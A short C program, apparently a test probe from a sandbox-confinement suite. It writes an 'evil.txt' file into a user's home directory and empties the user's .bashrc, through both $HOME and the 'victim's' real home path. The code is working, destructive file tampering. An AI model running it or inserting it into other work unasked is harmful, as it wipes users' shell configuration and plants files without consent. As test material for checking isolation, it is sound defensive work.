/* home-write: drop a file in the home and empty the shell's rc file, both by
 * $HOME and by the victim's real home path. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "targets.h"

static void vandalize(const char *home)
{
	char path[1200];
	int fd;

	snprintf(path, sizeof(path), "%s/evil.txt", home);
	if ((fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644)) < 0 ||
	    write(fd, "owned\n", 6) != 6)
		perror(path);
	if (fd >= 0)
		close(fd);
	snprintf(path, sizeof(path), "%s/.bashrc", home);
	if (truncate(path, 0) < 0)
		perror(path);
}

int main(int argc, char **argv)
{
	const char *home = getenv("HOME");

	targets_load(argc, argv);
	if (home)
		vandalize(home);
	vandalize(target("T_HOME"));
	return 0;
}
